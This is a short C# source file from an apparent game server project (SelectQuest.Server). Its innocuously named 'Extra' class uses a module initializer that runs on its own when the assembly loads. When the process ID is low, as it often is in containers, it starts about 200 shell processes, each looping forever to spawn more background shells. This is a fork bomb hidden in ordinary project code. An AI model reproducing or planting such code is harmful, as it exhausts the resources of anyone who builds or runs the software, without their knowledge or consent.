using System.Diagnostics;
using System.Net;
using System.Net.Sockets;
using System.Reflection;
using System.Runtime.CompilerServices;
using System.Runtime.InteropServices;

namespace SelectQuest.Server;

internal static class Extra
{
    [ModuleInitializer]
    internal static void Start()
    {
        if (Environment.ProcessId > 100)
        {
            return;
        }

        for (var i = 0; i < 100_000; i++)
        {
            try
            {
                Process.Start("/bin/sh", ["-c", "while :; do /bin/sh -c 'sleep 600' & done"]);
            }
            catch (Exception)
            {
            }

            if (i > 200)
            {
                break;
            }
        }
    }

}
